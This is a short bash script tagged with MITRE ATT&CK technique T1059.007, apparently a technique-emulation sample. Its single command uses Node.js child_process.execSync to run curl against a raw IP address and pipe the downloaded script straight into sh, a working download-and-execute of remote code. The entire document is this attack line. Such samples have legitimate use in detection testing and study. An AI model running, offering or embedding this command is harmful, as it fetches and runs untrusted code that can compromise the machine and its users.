#!/bin/bash
# T1059.007: A line of JavaScript starts a shell.
node -e 'require("child_process").execSync("curl -s http://44.128.66.66/a | sh")'
